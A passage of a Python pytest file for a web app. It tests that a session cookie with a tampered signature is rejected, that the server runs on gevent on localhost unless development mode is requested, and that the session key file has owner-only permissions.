    client.set_cookie("session", payload + "." + ("A" if signature[0] != "A" else "B") + signature[1:])
    assert client.get("/orders").status_code == 303
    assert client.get("/api/session").status_code == 401


# --- the production server -----------------------------------------------------------------------------------
@pytest.mark.parametrize("args, mode", [([], "gevent"), (["--dev"], "threading")])
def test_tf_run_serves_on_gevent_unless_asked_for_the_development_server(monkeypatch, args, mode):
    seen: list[Settings] = []
    monkeypatch.setattr(app_module, "serve", lambda settings: seen.append(settings) or 0)
    result = CliRunner().invoke(app_module.run_command, args)
    assert result.exit_code == 0, result.output
    assert seen[0].async_mode == mode and seen[0].host == "127.0.0.1"


def test_the_data_directory_secrets_are_owner_only(factory, tmp_path):
    assert Path(tmp_path / "session.key").stat().st_mode & 0o077 == 0
    assert len((tmp_path / "session.key").read_bytes()) == 32
